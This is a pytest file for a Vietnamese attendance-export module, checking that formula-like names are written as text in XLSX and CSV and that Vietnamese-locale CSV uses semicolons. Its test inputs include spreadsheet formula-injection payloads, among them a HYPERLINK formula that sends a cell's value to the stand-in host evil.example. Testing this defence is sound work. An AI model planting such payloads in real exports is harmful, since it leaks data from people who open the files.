"""Exports: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from confbridge import exports
from confbridge.exports import Column, Document, Kind, Table

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


def document(names: list[str]) -> Document:
    table = Table(
        "Điểm danh",
        [Column("Điểm cầu"), Column("Số phút", Kind.integer), Column("Tỷ lệ", Kind.ratio)],
        [[name, -5, 0.5] for name in names],
    )
    info = [("Đơn vị", names[0]), ("Lập lúc", datetime(2026, 1, 5, 1, tzinfo=UTC))]
    return Document("test", [table], info, "Asia/Ho_Chi_Minh")


def test_export_xlsx_writes_formula_like_names_as_text() -> None:
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(document([*FORMULAS, "Xã An Bình"]))))
    sheet = workbook["Điểm danh"]
    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(FORMULAS) + 1)]
    # XML reads a stored CR back as LF
    assert [c.value.replace("\n", "\r") for c in cells] == [*FORMULAS, "Xã An Bình"]
    assert all(c.data_type == "s" for c in cells)  # not 'f': no formula runs
    assert all(c.quotePrefix for c in cells[:-1]) and not cells[-1].quotePrefix
    assert sheet.cell(2, 2).value == -5 and sheet.cell(2, 2).data_type == "n"
    cover = workbook["Thông tin"]
    assert cover.cell(1, 2).value == FORMULAS[0] and cover.cell(1, 2).data_type == "s"


@pytest.mark.parametrize("name", FORMULAS)
def test_export_csv_prefixes_formula_like_names_with_an_apostrophe(name: str) -> None:
    text = exports.to_csv(document([name])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + name, "-5", "50.00"]


def test_export_csv_leaves_ordinary_names_alone() -> None:
    text = exports.to_csv(document(["Xã An Bình", "UBND 'Hạ Long'"])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["Xã An Bình", "UBND 'Hạ Long'"]


def test_export_csv_for_a_vietnamese_excel_splits_on_semicolons_with_decimal_commas() -> None:
    data = exports.to_csv(document(["Xã An Bình; Hạ Long"]), exports.EXCEL_VI_CSV)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "Điểm cầu;Số phút;Tỷ lệ (%)"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["Xã An Bình; Hạ Long", "-5", "50,00"]


def test_export_csv_for_programs_stays_comma_separated() -> None:
    text = exports.to_csv(document(["Xã An Bình"])).decode("utf-8-sig")
    assert text.splitlines()[:2] == ["Điểm cầu,Số phút,Tỷ lệ (%)", "Xã An Bình,-5,50.00"]
